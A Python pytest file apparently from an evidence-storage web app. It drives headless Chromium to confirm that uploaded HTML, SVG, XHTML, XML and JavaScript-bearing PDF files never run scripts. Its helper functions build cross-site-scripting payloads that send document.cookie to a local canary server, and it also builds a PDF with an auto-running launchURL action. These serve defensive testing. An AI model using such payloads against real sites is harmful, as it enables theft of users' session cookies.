"""FAULTS 11: what was handed in runs no script in a browser, however its link is opened.

A real Chromium opens the links, with a cookie that a script on the store's host could read. Scripts
report to a canary. The same contents, served as what they are, do report: so the canary sings.
"""

from __future__ import annotations

import json
import os
import subprocess
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from io import BytesIO
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit
from uuid import UUID

import pikepdf
import pytest

from app.evidence.lifecycle import State
from app.evidence.models import File, Making, Rendition
from app.kit.ids import new_id
from tests import make
from tests.evidence.conftest import Shelves
from tests.evidence.test_reading_files import link
from tests.make import Person

COOKIE = "session=of-somebody"
PATIENCE = 40.0
AFTERWARDS = 1.5
"""Seconds that scripts get after the last of the controls has reported."""


def script(canary: str, name: str) -> str:
    """Return JavaScript that tells the canary its name and the cookies, and asks the API."""
    told = f"'{canary}/sings?name={name}&cookie='+encodeURIComponent(document.cookie)"
    return f"new Image().src={told};fetch('{canary}/api?name={name}',{{credentials:'include'}})"


def html(run: str) -> str:
    return f'<!doctype html><html><body onload="{run}"><script>{run}</script></body></html>'


def svg(run: str) -> str:
    script = run.replace("&", "&amp;")
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script>{script}</script></svg>'


def xhtml(run: str) -> str:
    return (
        '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title>'
        f"<script>{run.replace('&', '&amp;')}</script></head><body/></html>"
    )


def xml(run: str) -> str:
    return (
        '<?xml version="1.0"?><note xmlns:h="http://www.w3.org/1999/xhtml">'
        f"<h:script>{run.replace('&', '&amp;')}</h:script></note>"
    )


MARKUP: Mapping[str, tuple[Callable[[str], str], str]] = {
    "html": (html, "text/html"),
    "svg": (svg, "image/svg+xml"),
    "xhtml": (xhtml, "application/xhtml+xml"),
    "xml": (xml, "application/xml"),
}
"""How a script is packed, and the type under which browsers run it."""

POSED_AS = (
    "text/plain",
    "text/csv",
    "text/markdown",
    "image/png",
    "image/jpeg",
    "image/webp",
    "application/pdf",
    "video/mp4",
    "audio/ogg",
    "message/rfc822",
    "application/rtf",
)

MADE_AS = {
    "text": "text/plain",
    "waveform": "application/json",
    "preview": "image/jpeg",
    "playable": "video/mp4",
}
"""What is made of files, and the type under which it is told."""


def script_pdf(run: str) -> bytes:
    """Return a document that runs JavaScript and opens an address as soon as it is shown."""
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=run)
        document.save(made)
    return made.getvalue()


@dataclass
class Canary:
    """A web server that notes who reports, and serves pages that embed links."""

    heard: list[tuple[str, str]] = field(default_factory=list)
    """Name and cookie of each report."""
    pages: dict[str, tuple[str, str]] = field(default_factory=dict)
    """Media type and text by path."""
    url: str = ""

    def names(self) -> set[str]:
        return {name for name, _ in self.heard}

    @contextmanager
    def listening(self) -> Iterator[Canary]:
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked = urlsplit(self.path)
                if asked.path in ("/sings", "/api"):
                    query = parse_qs(asked.query)
                    cookie = query.get("cookie", [""])[0]
                    canary.heard.append((query["name"][0], cookie))
                media_type, text = canary.pages.get(asked.path, ("text/plain", ""))
                body = text.encode()
                self.send_response(200)
                self.send_header("content-type", media_type)
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: object) -> None:
                return

        with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
            thread = threading.Thread(target=server.serve_forever, daemon=True)
            thread.start()
            self.url = f"http://127.0.0.1:{server.server_address[1]}"
            try:
                yield self
            finally:
                server.shutdown()
                thread.join(timeout=5)


class Browser:
    """Chromium without a window, driven through a pair of pipes (DevTools protocol)."""

    def __init__(self, chromium: str, profile: Path) -> None:
        to_read, self._write = os.pipe()
        self._read, to_write = os.pipe()
        options = (
            "--headless=new --no-sandbox --disable-gpu --no-first-run --disable-extensions"
            " --disable-background-networking --disable-component-update --disable-sync"
            " --disable-dev-shm-usage --remote-debugging-pipe"
        )
        command = f'exec "$0" {options} --user-data-dir="$1" about:blank 3<&{to_read} 4>&{to_write}'
        self._process = subprocess.Popen(
            ["bash", "-c", command, chromium, str(profile)],
            pass_fds=(to_read, to_write),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        os.close(to_read)
        os.close(to_write)
        self._number = 0
        self._unread = b""

    def ask(self, method: str, **given: object) -> dict[str, object]:
        """Send one command to the browser and return its answer."""
        self._number += 1
        message = {"id": self._number, "method": method, "params": given}
        os.write(self._write, json.dumps(message).encode() + b"\0")
        while True:
            while b"\0" not in self._unread:
                more = os.read(self._read, 65536)
                assert more, "Chromium went away"
                self._unread += more
            one, _, self._unread = self._unread.partition(b"\0")
            told = json.loads(one)
            if told.get("id") == self._number:
                assert "error" not in told, told
                found: dict[str, object] = told["result"]
                return found

    def open(self, url: str) -> None:
        """Open an address in a tab of its own."""
        self.ask("Target.createTarget", url=url)

    def close(self) -> None:
        self.ask("Browser.close")
        self._process.wait(timeout=20)
        os.close(self._write)
        os.close(self._read)


@pytest.fixture
def canary() -> Iterator[Canary]:
    with Canary().listening() as canary:
        yield canary


@pytest.fixture
def chromium(tool: Callable[[str], str], tmp_path: Path, canary: Canary) -> Iterator[Browser]:
    """A browser that holds a cookie for our host, where scripts of any port could read it."""
    browser = Browser(tool("chromium"), tmp_path / "profile")
    try:
        browser.ask("Browser.setDownloadBehavior", behavior="deny")
        name, _, value = COOKIE.partition("=")
        cookie = {"name": name, "value": value, "url": canary.url}
        browser.ask("Storage.setCookies", cookies=[cookie])
        yield browser
    finally:
        browser.close()


def embedding(urls: Mapping[str, str]) -> str:
    """Return a page that embeds every address in each way that pages embed things."""
    ways = (
        '<iframe src="{}"></iframe>',
        '<object data="{}"></object>',
        '<embed src="{}">',
        '<img src="{}">',
    )
    found = [way.format(url.replace("&", "&amp;")) for url in urls.values() for way in ways]
    return "<!doctype html><title>x</title>" + "".join(found)


def open_all(browser: Browser, canary: Canary, links: Mapping[str, str]) -> None:
    """Open links in tabs and embedded, then the controls, and wait until these have reported."""
    controls = {}
    for name, (pack, media_type) in MARKUP.items():
        for place in ("tab", "page"):
            path = f"/control-{name}-{place}"
            canary.pages[path] = (media_type, pack(script(canary.url, path[1:])))
            controls[path[1:]] = canary.url + path
    canary.pages["/links"] = ("text/html", embedding(links))
    in_page = {name: url for name, url in controls.items() if name.endswith("page")}
    canary.pages["/controls"] = ("text/html", embedding(in_page))
    for url in links.values():
        browser.open(url)
    browser.open(f"{canary.url}/links")
    for name, url in controls.items():
        if name.endswith("tab"):
            browser.open(url)
    browser.open(f"{canary.url}/controls")
    until = time.monotonic() + PATIENCE
    while not controls.keys() <= canary.names():
        assert time.monotonic() < until, f"only {canary.names()} reported"
        time.sleep(0.1)
    time.sleep(AFTERWARDS)
    assert canary.names() == controls.keys()
    assert {cookie for _, cookie in canary.heard} == {COOKIE, ""}


def test_no_script_that_was_handed_in_runs(
    amira: Person, item: UUID, canary: Canary, chromium: Browser
) -> None:
    """As candidates can hand them in: as words, and as a document with a script in it."""
    links = {}
    for name, (pack, _) in MARKUP.items():
        for media_type in ("text/plain", "text/markdown", "text/csv"):
            known = f"{name}-as-{media_type.partition('/')[2]}"
            content = pack(script(canary.url, known)).encode()
            file = make.file(amira, item, content, media_type=media_type, name=f"x.{name}")
            state = amira.get(f"/files/{file}").json()["state"]
            assert state in ("available", "rejected")
            if state == "available":
                links[known] = link(amira, file)
    run = f"app.launchURL('{canary.url}/sings?name=pdf', true)"
    paper = make.file(amira, item, script_pdf(run), media_type="application/pdf", name="x.pdf")
    links["pdf"] = link(amira, paper)
    open_all(chromium, canary, links)


def passed(amira: Person, portfolio: UUID, item: UUID, name: str, media_type: str) -> UUID:
    """Enter a file as one that was found to be of this type; its bytes are put in the store."""
    with amira.tenant.at_work() as work:
        file = File(
            id=new_id(),
            tenant_id=amira.tenant.id,
            portfolio_id=portfolio,
            item_id=item,
            name=name,
            media_type=media_type,
            kind="document",
            size=1,
            sha256="0" * 64,
            state=State.AVAILABLE,
            announced_at=work.now,
            received_at=work.now,
            settled_at=work.now,
        )
        work.session.add(file)
        return file.id


def made_of(amira: Person, portfolio: UUID, file: UUID, kind: str, media_type: str) -> str:
    """Enter something as made of a file; return where the store is to hold it."""
    with amira.tenant.at_work() as work:
        made = Rendition(
            id=new_id(),
            tenant_id=amira.tenant.id,
            portfolio_id=portfolio,
            file_id=file,
            kind=kind,
            state=Making.MADE,
            media_type=media_type,
            size=1,
            sha256="0" * 64,
            made_at=work.now,
        )
        work.session.add(made)
        return made.key


def link_to(person: Person, path: str) -> str:
    """Ask for an address of the API and return the link that it sends on to."""
    answer = person.tenant.browser.get(
        f"/api/v1{path}",
        headers={"authorization": f"Bearer {person.token}"},
        follow_redirects=False,
    )
    assert answer.status_code == 307, answer.text
    return answer.headers["location"]


def test_no_script_runs_even_if_a_check_had_been_fooled(
    amira: Person,
    portfolio: UUID,
    item: UUID,
    shelves: Shelves,
    canary: Canary,
    chromium: Browser,
) -> None:
    """As if it had passed for a picture, a film or a paper: the store tells what it passed for."""
    links = {}
    for name, (pack, _) in MARKUP.items():
        for media_type in POSED_AS:
            known = f"{name}-posed-as-{media_type.replace('/', '-')}"
            content = pack(script(canary.url, known)).encode()
            file = passed(amira, portfolio, item, f"x.{name}", media_type)
            shelves.put(f"evidence/{portfolio}/{file}", content)
            links[known] = link(amira, file)
    for name, (pack, _) in MARKUP.items():
        for kind, media_type in MADE_AS.items():
            known = f"{name}-made-as-{kind}"
            file = passed(amira, portfolio, item, f"x.{name}", "text/plain")
            key = made_of(amira, portfolio, file, kind, media_type)
            shelves.put(key, pack(script(canary.url, known)).encode())
            links[known] = link_to(amira, f"/files/{file}/renditions/{kind}")
    # One whose script nobody noticed opens in place, in Chromium's own viewer.
    unseen = passed(amira, portfolio, item, "x.pdf", "application/pdf")
    run = f"app.launchURL('{canary.url}/sings?name=unseen', true)"
    shelves.put(f"evidence/{portfolio}/{unseen}", script_pdf(run))
    links["unseen"] = link(amira, unseen)
    open_all(chromium, canary, links)


@pytest.mark.parametrize(
    "media_type", ["text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "x/y"]
)
def test_a_type_that_no_reader_checks_is_told_as_unknown_bytes(
    amira: Person, item: UUID, media_type: str
) -> None:
    """Even where a scheme accepted such files, the store would not serve them as what they say."""
    file = make.file(amira, item)
    with amira.tenant.at_work() as work:
        row = work.session.get_one(File, file)
        row.media_type, row.kind = media_type, "image"
    asked = parse_qs(urlsplit(link(amira, file)).query)
    assert asked["response-content-type"] == ["application/octet-stream"]
    assert asked["response-content-disposition"] == ['attachment; filename="minutes.txt"']
    signed = link(amira, file)
    other = signed.replace(quote("application/octet-stream", safe=""), quote(media_type, safe=""))
    assert other != signed
